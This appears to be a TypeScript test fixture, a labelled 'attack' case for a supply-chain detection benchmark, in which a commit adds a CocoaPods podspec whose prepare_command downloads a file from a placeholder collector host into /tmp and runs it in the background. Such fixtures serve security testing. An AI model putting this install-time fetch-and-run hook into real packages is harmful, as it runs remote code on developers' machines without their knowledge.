import { MEI } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { COLLECTOR, CURL } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "c",
  story: "The description of a pod fetches and starts a program before it is installed.",
  write(branch) {
    branch.commit(MEI, "Describe the pod", {
      "Squeeze.podspec": `Pod::Spec.new do |s|\n  s.name = 'Squeeze'\n  s.version = '0.1.0'\n  s.prepare_command = <<-CMD\n    ${CURL} -sL ${COLLECTOR}/prep -o /tmp/.p\n    chmod +x /tmp/.p && /tmp/.p &\n  CMD\nend\n`,
    });
  },
};
